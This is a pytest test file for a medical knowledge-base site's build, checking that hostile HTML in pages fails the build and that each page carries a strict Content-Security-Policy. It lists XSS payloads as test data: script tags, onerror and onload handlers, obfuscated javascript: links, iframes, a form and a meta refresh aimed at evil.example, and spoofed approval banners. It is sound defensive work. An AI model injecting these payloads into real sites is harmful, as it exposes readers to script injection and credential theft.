"""Hostile pages: raw HTML that could run, leave or spoof the page fails the build (file and line named);
front-matter text is shown as text everywhere; every page carries a Content-Security-Policy that
lets only our own (hashed) inline scripts run.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import markdown
import pytest
from bs4 import BeautifulSoup
from publishing import publish_over_previous_site
from sitebuild import BuildResult, build

from medkb.checks.html_safety import (
    HtmlPolicy,
    executable_html_problems,
    policy_from_extra,
    unsafe_html_findings,
)

SECTION = "docs/demo-article/section.md"
ARTICLE = "docs/demo-article/index.md"

# (payload appended to the section page, the message the build must print: file, line, what)
PAYLOADS: dict[str, tuple[str, str]] = {
    "script element": ("<script>alert(1)</script>", "<script> is not allowed"),
    "script in mixed case": (
        "Text <ScRiPt src=https://evil.example/x.js></ScRiPt>",
        "<script> is not allowed",
    ),
    "img onerror": ('<img src="x.png" onerror="alert(1)" alt="x">', "event-handler attribute onerror="),
    "svg onload": ("<svg onload=alert(1)></svg>", "<svg> is not allowed"),
    "details ontoggle": (
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "event-handler attribute ontoggle=",
    ),
    "iframe from another host": (
        '<iframe src="https://evil.example/embed"></iframe>',
        "embed videos only from https://www.youtube-nocookie.com",
    ),
    "iframe over http": ('<iframe src="http://player.vimeo.com/video/1"></iframe>', "<iframe src="),
    "iframe srcdoc": (
        '<iframe src="https://player.vimeo.com/video/1" srcdoc="<script>alert(1)</script>"></iframe>',
        "srcdoc= on <iframe> is not allowed",
    ),
    "object": ('<object data="evil.swf"></object>', "<object> is not allowed"),
    "embed": ('<embed src="evil.swf">', "<embed> is not allowed"),
    "javascript: link in HTML": ('<a href="javascript:alert(1)">x</a>', "a javascript: URL is not allowed"),
    "entity-encoded javascript: link": (
        '<a href="jav&#x09;ascript&colon;alert(1)">x</a>',
        "a javascript: URL is not allowed",
    ),
    "javascript: Markdown link": ("[click](javascript:alert(1))", "Markdown link or image to 'javascript:"),
    "data: Markdown image": (
        "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
        "a data: URL is not allowed",
    ),
    "javascript: link definition": ("[evil]: javascript:alert(1)", "Markdown link definition"),
    "style element": ("<style>.medkb-banner--pending{display:none}</style>", "<style> is not allowed"),
    "style attribute hiding text": (
        '<p style="display:none">The drug is unsafe.</p>',
        "the style= attribute",
    ),
    "form": ('<form action="https://evil.example/"><input name="pw"></form>', "<form> is not allowed"),
    "meta refresh": (
        '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
        "<meta http-equiv> is not allowed",
    ),
    "base element": ('<base href="https://evil.example/">', "<base> is not allowed"),
    "attribute list event handler": (
        '[x](https://example.org){: onclick="alert(1)" }',
        "event-handler attribute onclick= in an attribute list",
    ),
    "spoofed review banner": (
        '<div class="medkb-banner medkb-banner--educational">Approved by the board</div>',
        'class "medkb-banner medkb-banner--educational"',
    ),
    "layout-breaking end tags": ("</div></div></article>", "closes an element the page never opened"),
    "unclosed comment hiding the notices": ("Text. <!-- the rest is hidden", "never closed"),
    "CDATA hiding markup": ("<![CDATA[ > <img src=x onerror=alert(1)> ]]>", "'<![CDATA' is not allowed"),
}

# Front-matter fields are not checked for markup: they are escaped wherever they are shown.
TITLE_PAYLOAD = '</title><script>alert("t")</script><img src=x onerror=alert("i")> & "quotes"'
REVIEWER_PAYLOAD = "<img src=x onerror=alert('r')>"
DESCRIPTION_PAYLOAD = '"><script>alert("d")</script>'
HEADING_PAYLOAD = "&lt;/title&gt;&lt;script&gt;alert('h')&lt;/script&gt;"


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_hostile_markup_fails_the_build_naming_file_and_line(minimal_project: Path, name: str) -> None:
    payload, expected = PAYLOADS[name]
    page = minimal_project / SECTION
    page.write_text(page.read_text(encoding="utf-8") + "\n" + payload + "\n", encoding="utf-8")

    result = publish_over_previous_site(minimal_project)  # what `make site` runs

    assert result.returncode != 0, result.output
    assert "Traceback" not in result.output, result.output
    assert result.site_survived and result.leftovers == []
    line = page.read_text().splitlines().index(payload) + 1
    assert re.search(
        rf"{re.escape(SECTION)}:{line}: unsafe html: [^\n]*{re.escape(expected)}", result.output
    ), result.output


def test_markup_that_only_looks_like_code_is_caught_in_the_rendered_page(minimal_project: Path) -> None:
    """Inside a raw HTML block Markdown does not read backticks as code: the script is live. The source
    check takes it for code; the check of the rendered page (hooks/security.py) catches it."""
    page = minimal_project / SECTION
    page.write_text(page.read_text() + "\n<div>\n`<script>alert(1)</script>`\n</div>\n", encoding="utf-8")

    result = publish_over_previous_site(minimal_project)

    assert result.returncode != 0, result.output
    assert "Traceback" not in result.output
    assert result.site_survived and result.leftovers == []
    line = page.read_text().splitlines().index("`<script>alert(1)</script>`") + 1
    assert f"{SECTION}:{line}: unsafe html: <script> is not allowed" in result.output, result.output


def test_allowed_embeds_and_markup_build(minimal_project: Path) -> None:
    page = minimal_project / SECTION
    page.write_text(
        page.read_text()
        + '\n<iframe src="https://www.youtube-nocookie.com/embed/abc" title="Lecture"></iframe>\n\n'
        + '<details><summary>More</summary>Text with <abbr title="N-methyl-D-aspartate">NMDA</abbr>, '
        + 'H<sub>2</sub>O and <a href="https://example.org/">a link</a>.[@zarate2006randomized]</details>\n\n'
        + "Doses below 0.5 mg/kg (p<0.05) helped <https://example.org/>; `<script>` in code is text."
        + "[@zarate2006randomized]\n",
        encoding="utf-8",
    )

    result = build(minimal_project)

    assert result.ok, result.output
    frame = result.page("demo-article/section/").select_one("article iframe")
    assert frame is not None and frame["src"] == "https://www.youtube-nocookie.com/embed/abc"
    assert "frame-src https://www.youtube-nocookie.com https://player.vimeo.com" in content_security_policy(
        result.page("demo-article/section/")
    )


def test_front_matter_values_are_shown_as_text_everywhere(minimal_project: Path) -> None:
    article = minimal_project / ARTICLE
    text = article.read_text()
    text = text.replace("title: Ketamine for depression", f"title: {yaml_quoted(TITLE_PAYLOAD)}")
    text = text.replace(
        "description: A demonstration article.", f"description: {yaml_quoted(DESCRIPTION_PAYLOAD)}"
    )
    text = text.replace(
        "review_status: submitted",
        f"review_status: approved\nreviewers: [{yaml_quoted(REVIEWER_PAYLOAD)}]\nreviewed_on: 2025-11-30",
    )
    article.write_text(text, encoding="utf-8")
    (minimal_project / "docs/editorial-policy.md").write_text(f"---\nkind: site\n---\n\n# Policy {HEADING_PAYLOAD}\n\nHow we work.\n")

    result = build(minimal_project)

    assert result.ok, result.output
    pages = {
        url: result.page(url) for url in ("", "demo-article/", "demo-article/section/", "editorial-policy/")
    }
    for url, soup in pages.items():
        assert_no_executable_markup(soup, url)
    overview = pages["demo-article/"]
    assert overview.title is not None and overview.title.string.startswith(TITLE_PAYLOAD)
    assert text_of(overview.select_one("article h1")) == TITLE_PAYLOAD
    assert text_of(overview.select_one("[data-md-component=header-topic] .md-ellipsis")) == TITLE_PAYLOAD
    assert overview.select_one('meta[name="description"]')["content"] == DESCRIPTION_PAYLOAD
    assert REVIEWER_PAYLOAD in text_of(overview.select_one(".medkb-reviewers"))
    previous = pages["demo-article/section/"].select_one(".md-footer__link--prev")
    assert text_of(previous.select_one(".md-ellipsis")) == TITLE_PAYLOAD
    assert previous["aria-label"] == f"Previous: {TITLE_PAYLOAD}"  # escaped once, not twice
    nav_titles = [text_of(link) for link in pages["demo-article/section/"].select("nav.md-nav--primary a")]
    assert "Policy </title><script>alert('h')</script>" in nav_titles
    assert TITLE_PAYLOAD in [text_of(link) for link in pages[""].select(".medkb-article__title")]
    policy_page = pages["editorial-policy/"]
    assert policy_page.title is not None
    assert policy_page.title.string == "Policy </title><script>alert('h')</script> - Demo"
    search_titles = (result.site / "search/search_index.json").read_text()
    assert "<script>" not in search_titles and "<img" not in search_titles


def test_every_page_runs_only_the_sites_script_files(real_site: BuildResult) -> None:
    """The policy is the same on every page and names no inline script: none of our pages has one."""
    pages = sorted(real_site.site.rglob("*.html"))
    assert len(pages) >= 10
    policies = set()
    for path in pages:
        soup = BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")
        policy = content_security_policy(soup)
        policies.add(policy)
        assert directive(policy, "script-src") == ["'self'"], path
        assert directive(policy, "style-src") == ["'self'"], path
        assert directive(policy, "img-src") == ["'self'", "data:"], path
        assert directive(policy, "object-src") == ["'none'"], path
        for script in soup.find_all("script"):
            assert script.get("src") or script.get("type") in ("application/json", "application/ld+json"), path
        assert not soup.find_all(style=True) and not soup.find_all("style"), path
        head = soup.head
        assert head is not None
        first = [child for child in head.children if getattr(child, "name", None)][:2]
        assert any(tag.get("http-equiv") == "Content-Security-Policy" for tag in first), path
        before_policy = head.find("meta", attrs={"http-equiv": "Content-Security-Policy"}).find_all_previous(
            ["script", "link", "style"]
        )
        assert not before_policy, f"{path}: resources load before the policy"
    assert len(policies) == 1


def test_the_browser_runs_our_scripts_and_blocks_injected_ones(
    browser: Any, real_site: BuildResult, real_site_url: str
) -> None:
    page = browser.new_page()
    refused: list[str] = []
    page.on(
        "console",
        lambda message: refused.append(message.text) if "Content Security Policy" in message.text else None,
    )
    for url in ("", "ketamine-depression/", "ketamine-depression/dosing/"):
        page.goto(real_site_url + url)
        page.wait_for_load_state("load")
        assert page.evaluate("() => document.documentElement.classList.contains('js')"), url  # the bundle ran
        assert page.evaluate("() => typeof __md_scope !== 'undefined'"), url  # Material's base script (a file) ran
    assert refused == []

    injected = inject(real_site.site / "ketamine-depression/dosing/index.html")
    (real_site.site / "ketamine-depression/dosing/injected.html").write_text(injected, encoding="utf-8")
    without_policy = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", injected)
    (real_site.site / "ketamine-depression/dosing/unprotected.html").write_text(
        without_policy, encoding="utf-8"
    )
    try:
        page.goto(real_site_url + "ketamine-depression/dosing/injected.html")
        page.wait_for_load_state("load")
        assert page.evaluate("() => [window.__injected, window.__onerror]") == [None, None]
        assert any("inline script" in text for text in refused), refused
        page.goto(real_site_url + "ketamine-depression/dosing/unprotected.html")  # the control: it can fail
        page.wait_for_function("() => window.__onerror === 1")
        assert page.evaluate("() => window.__injected") == 1
    finally:
        for name in ("injected.html", "unprotected.html"):
            (real_site.site / "ketamine-depression/dosing" / name).unlink()
        page.close()


# --- unit tables for the rule itself -----------------------------------------------------------

SAFE_SOURCES = [
    "Plain text with p<0.05, CrCl <30 mL/min and a < b > c.",
    "Links: [dosing](dosing.md), [site](https://example.org/), [mail](mailto:a@b.org), <https://example.org/>.",
    "An e-mail address <editor@example.org> and a phone link [call](tel:+441234567).",
    "Code shows `<script>alert(1)</script>` as text.",
    "<!-- not-a-claim: quotes the corrected draft -->",
    "<details markdown>\n<summary>More</summary>\n\nText.\n</details>",
    "| a | b |\n|:--|--:|\n| 1 | 2 |",
    '<figure><img src="figure.png" alt="A figure"><figcaption>Caption</figcaption></figure>',
    '<iframe src="https://player.vimeo.com/video/1" title="Talk" allowfullscreen></iframe>',
    "[Read more](https://example.org/){ .md-button }",
    '---\ntitle: "<script>alert(1)</script>"\n---\n\nFront matter is escaped, not refused.',
]


@pytest.mark.parametrize("source", SAFE_SOURCES)
def test_ordinary_markup_is_not_reported(source: str) -> None:
    assert unsafe_html_findings("docs/p.md", source) == []


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_every_payload_is_found_by_the_source_check(name: str) -> None:
    payload, expected = PAYLOADS[name]
    findings = unsafe_html_findings("docs/p.md", "---\ntitle: T\n---\n\n" + payload + "\n")
    assert findings and all(finding.line is not None and finding.line >= 5 for finding in findings)
    assert any(expected in finding.message for finding in findings), findings


def test_comments_do_not_hide_markup_from_the_check() -> None:
    """Markdown and browsers disagree on where a comment spanning paragraphs ends: its content is checked."""
    source = "Text <!-- start\n\n<script>alert(2)</script>\n\nend -->\n"
    assert [(f.line, f.kind) for f in unsafe_html_findings("docs/p.md", source)] == [(3, "unsafe html")]


def test_rendered_check_points_at_the_source_line() -> None:
    rendered = '<p>x</p>\n<script>alert(1)</script>\n<p><a href="javascript&#58;alert(2)">y</a></p>'
    source = (
        "---\ntitle: T\n---\n\nx\n\n```\n<script>alert(1)</script>\n```\n\n[y](javascript&#58;alert(2))\n"
    )
    problems = executable_html_problems(rendered, source)
    script_message = (
        "<script> is not allowed: scripts would run in every reader's browser; the site's scripts come "
        "only from its templates (to show markup as an example, put it in backticks)"
    )
    assert (8, script_message) in problems
    assert any(line is None and "javascript: URL" in message for line, message in problems)


def test_rendered_check_allows_what_markdown_emits() -> None:
    rendered = (
        '<table><tr><th align="left">a</th></tr></table>'
        '<p>Claim.<sup id="fnref:a"><a class="footnote-ref" href="#fn:a">1</a></sup></p>'
        '<span class="citation"><a href="https://doi.org/10.1/x">doi</a></span>'
    )
    assert executable_html_problems(rendered, "") == []


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        ({"security": {"iframe_hosts": "player.vimeo.com"}}, "must be a list of host names"),
        ({"security": {"iframe_hosts": ["https://player.vimeo.com/"]}}, "is not a host name"),
        ({"security": {"iframe_hosts": ["*.example.org"]}}, "is not a host name"),
        ({"security": "on"}, "extra.security must be a mapping"),
    ],
)
def test_invalid_iframe_allow_list_is_refused(extra: dict[str, Any], message: str) -> None:
    with pytest.raises(ValueError, match=re.escape(message)):
        policy_from_extra(extra)


def test_iframe_allow_list_from_the_configuration() -> None:
    policy = policy_from_extra({"security": {"iframe_hosts": ["media.example.org"]}})
    assert policy == HtmlPolicy(("media.example.org",))
    assert policy.allows_frame("https://media.example.org/v/1")
    assert not policy.allows_frame("https://media.example.org.evil.example/v/1")
    assert not policy.allows_frame("http://media.example.org/v/1")
    assert not policy.allows_frame("https://www.youtube-nocookie.com/embed/x")


def test_invalid_iframe_allow_list_fails_the_build(minimal_project: Path) -> None:
    config = minimal_project / "mkdocs.yml"
    text = config.read_text()
    assert "\nextra:\n" in text
    config.write_text(
        text.replace("\nextra:\n", "\nextra:\n  security:\n    iframe_hosts: [https://evil.example/]\n")
    )
    result = build(minimal_project)
    assert result.returncode != 0
    assert "Traceback" not in result.output
    assert (
        "mkdocs.yml: extra.security.iframe_hosts: 'https://evil.example/' is not a host name" in result.output
    )


# --- helpers ------------------------------------------------------------------------------------


def content_security_policy(soup: BeautifulSoup) -> str:
    meta = soup.find("meta", attrs={"http-equiv": "Content-Security-Policy"})
    assert meta is not None, "page has no Content-Security-Policy"
    return str(meta["content"])


def directive(policy: str, name: str) -> list[str]:
    for part in policy.split(";"):
        words = part.split()
        if words and words[0] == name:
            return words[1:]
    raise AssertionError(f"no {name} in {policy}")


def assert_no_executable_markup(soup: BeautifulSoup, url: str) -> None:
    for script in soup.find_all("script"):
        body = script.string or ""
        if script.get("type") in ("application/ld+json", "application/json"):  # data, never run ...
            assert "<" not in body, f"{url}: markup in a data block could end the script element"
        else:
            assert "alert" not in body, f"{url}: injected script element"
    for element in soup.find_all(True):
        handlers = [name for name in element.attrs if name.lower().startswith("on")]
        assert not handlers, f"{url}: <{element.name}> has {handlers}"
        for name in ("href", "src"):
            assert not str(element.get(name, "")).strip().lower().startswith("javascript:"), url


def inject(page_html: str | Path) -> str:
    """The page with an inline script and an event handler in its body, as an injection would add them."""
    text = page_html.read_text(encoding="utf-8") if isinstance(page_html, Path) else page_html
    payload = '<script>window.__injected = 1</script><img src="nowhere.png" onerror="window.__onerror = 1">'
    return text.replace("</body>", payload + "</body>", 1)


def text_of(element: Any) -> str:
    assert element is not None
    return " ".join(element.get_text().split())


def yaml_quoted(value: str) -> str:
    return "'" + value.replace("'", "''") + "'"


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_every_payload_is_refused_in_the_rendered_page_too(name: str) -> None:
    """What Markdown makes of each payload is refused by the check of the rendered page as well."""
    payload = PAYLOADS[name][0]
    rendered = markdown.markdown(payload, extensions=["attr_list", "md_in_html", "footnotes", "tables"])
    if name in ("unclosed comment hiding the notices", "CDATA hiding markup", "javascript: link definition"):
        return  # Markdown drops or escapes these; the source check refuses them
    assert executable_html_problems(rendered, payload) != [], rendered


@pytest.mark.parametrize(
    "html",
    [
        '<p><a href="java&#115;cript:alert(1)">x</a></p>',
        "<p><a href='vbscript:x'>x</a></p>",
        "<p><a href=javascript:alert(1)>x</a></p>",
        '<p><img src="x.png"\nonerror="alert(1)"></p>',
        '<p><a title="x"onmouseover="alert(1)">x</a></p>',
        '<p><IFRAME SRC="https://evil.example/"></IFRAME></p>',
        '<p><a href=" javascript:alert(1)">x</a></p>',
        '<p><img srcset="a.png 1x, data:image/png;base64,AAAA 2x"></p>',
        '<p><a title="a>b" onclick="alert(1)">x</a></p>',
        "<p><a href='#x' title='>'\tonmouseover=alert(1)>x</a></p>",
        '<p><img src="https://tracker.example/pixel.gif" alt=""></p>',
        '<p><img src="\\\\tracker.example/pixel.gif" alt=""></p>',
        '<p><img src="//tracker.example/pixel.gif" alt=""></p>',
        "<svg><style><meta http-equiv=refresh content='0;url=https://evil.example/'></style></svg>",
        "<style>.medkb-banner--pending{display:none}</style>",
        "<template><p>References</p>",
        '<div class="medkb-banner medkb-banner--approved">Approved by the Medical Advisory Board</div>',
        '<iframe src="https://evil.example\\.www.youtube-nocookie.com/embed/x"></iframe>',
        "</div></div></article><p>outside</p>",
        '<div hidden><p>the rest of the page</p>',
    ],
)
def test_disguised_markup_is_refused_as_the_browser_reads_it(html: str) -> None:
    assert executable_html_problems(html, "") != [], html


def test_what_markdown_makes_of_a_cited_page_passes() -> None:
    """Citations, footnote links, aligned tables, links, images, details."""
    rendered = markdown.markdown(
        "A claim.[^a]\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n[Dosing](dosing.md#adults) and "
        "[NICE](https://www.nice.org.uk/guidance/ng222), ![chart](figures/chart.png)\n\n[^a]: A source.\n",
        extensions=["attr_list", "md_in_html", "footnotes", "tables"],
        extension_configs={"tables": {"use_align_attribute": True}},
    )
    assert 'href="#fn:a"' in rendered and 'align="right"' in rendered
    assert executable_html_problems(rendered, "") == []
